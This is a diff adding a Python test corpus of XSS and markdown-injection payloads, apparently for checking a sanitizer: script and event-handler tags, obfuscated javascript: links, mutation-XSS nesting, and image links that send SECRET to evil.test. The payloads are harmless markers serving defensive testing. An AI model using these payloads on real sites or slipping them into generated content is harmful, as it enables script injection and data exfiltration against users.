@@ -1,0 +1,27 @@
+"""Words that would run or fetch something where they are taken for more than words."""
+
+CORPUS = (
+    "<script>window.__xss=1</script>",
+    "<img src=x onerror=window.__xss=1>",
+    "<svg/onload=window.__xss=1>",
+    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
+    "[x](javascript:window.__xss=1)",
+    "[x](JaVaScRiPt:window.__xss=1)",
+    "[x](java\tscript:window.__xss=1)",
+    "[x](data:text/html,<script>window.__xss=1</script>)",
+    "[x](vbscript:window.__xss=1)",
+    "[x](https://good.test@evil.test/)",
+    '[x](https://a.test/"onmouseover="window.__xss=1)',
+    "![x](https://evil.test/?q=SECRET)",
+    "![x][1]\n\n[1]: https://evil.test/?q=SECRET",
+    "<a href=javascript:window.__xss=1>x</a>",
+    "<math><mtext><style><img src=x onerror=window.__xss=1></style></mtext></math>",
+    "```\n</code></pre><script>window.__xss=1</script>\n```",
+    "`</code><img src=x onerror=window.__xss=1>`",
+    "|<img src=x onerror=window.__xss=1>|b|\n|-|-|\n|<svg/onload=window.__xss=1>|c|",
+    "> <img src=x onerror=window.__xss=1>",
+    "- <img src=x onerror=window.__xss=1>\n  - [y](javascript:window.__xss=1)",
+    "&lt;img src=x onerror=window.__xss=1&gt;",
+    "<div hx-get=/evil hx-trigger=load x-data='{}'>x</div>",
+    "text\u2028event: done\u2028data: {}",
+)
